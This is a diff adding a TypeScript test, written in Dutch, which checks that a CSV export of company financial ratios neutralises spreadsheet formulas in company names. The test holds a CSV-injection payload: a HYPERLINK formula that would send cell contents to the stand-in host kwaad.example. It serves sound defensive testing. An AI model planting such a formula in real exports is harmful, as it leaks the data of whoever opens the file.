@@ -319,6 +319,24 @@ describe('kengetallen van de gekozen bedrijven', () => {
     expect(waarden[i]).toMatch(/^\d+,\d{2}$/);
   });
 
+  it('CSV: een bedrijfsnaam die met = + - @ begint is tekst, geen formule; een negatief getal blijft een getal', async () => {
+    const db = s.database.db;
+    const [oud] = await db.select({ naam: relaties.naam }).from(relaties).where(eq(relaties.id, ids.beta));
+    const formule = '=HYPERLINK("https://kwaad.example/?d="&A1;"Klik hier")';
+    try {
+      await db.update(relaties).set({ naam: formule }).where(eq(relaties.id, ids.beta));
+      const res = await adviseur.verzoek({ method: 'POST', url: KENGETALLEN, payload: { relatieIds: [ids.beta], jaar: 2024, formaat: 'csv' }, bearer: true });
+      expect(res.statusCode, res.body).toBe(200);
+      // on the wire: quoted, with a leading single quote, so a spreadsheet shows it as text
+      expect(res.body).toContain(`"'=HYPERLINK(""https://kwaad.example/?d=""&A1;""Klik hier"")"`);
+      const [, rij] = leesCsv(res.body.slice(1));
+      expect(rij[0]).toBe(`'${formule}`);
+      expect(rij.filter((c) => /^[=+@]/.test(c) || (/^-/.test(c) && !/^-\d+(,\d+)?$/.test(c)))).toEqual([]);
+    } finally {
+      await db.update(relaties).set({ naam: oud.naam }).where(eq(relaties.id, ids.beta));
+    }
+  });
+
   it('een bedrijf buiten de machtigingen: 403 zonder namen, geen bestand, geen toegangsregel', async () => {
     for (const vreemd of [ids.zeta, ids.delta, ids.epsilon, ids.eta, 999_999]) {
       const voor = (await gedownload(vries)).length;
